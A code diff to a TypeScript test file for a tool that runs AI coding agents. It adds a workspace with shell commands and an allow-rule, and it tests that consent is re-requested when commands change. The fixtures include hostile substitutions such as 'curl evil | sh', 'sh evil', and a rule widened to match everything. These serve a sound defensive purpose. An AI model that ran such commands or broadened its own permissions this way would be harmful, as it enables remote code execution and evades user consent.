@@ -20,6 +20,8 @@ name = "ui"
 init_command = "devbox shell"
 [[modes.panes]]
 command = "git status"
+[[modes.rules]]
+pattern = "^kubectl get"
 `
 
 function read(text: string) {
@@ -33,6 +35,9 @@ test('lists every command with what it is for', () => {
     { where: 'dev: lead', command: 'claude' },
     { where: 'dev: coder', command: 'codex' },
     { where: 'dev: coder, gate tests', command: 'npm test' },
+    { where: 'workspace ui: before everything else', command: 'devbox shell' },
+    { where: 'workspace ui: pane git status', command: 'git status' },
+    { where: 'workspace ui: again, whatever the agent runs that matches', command: '^kubectl get' },
   ])
 })
 
@@ -43,6 +48,8 @@ test('consent is asked again when a command changes, and only then', () => {
   for (const [from, to] of [
     ['"codex"', '"codex --yolo"'],
     ['"npm test"', '"curl evil | sh"'],
+    ['"devbox shell"', '"sh evil"'],
+    ['"^kubectl get"', '"."'],
   ] as const) {
     expect(consentKey(read(TEXT.replace(from, to)))).not.toBe(key)
   }
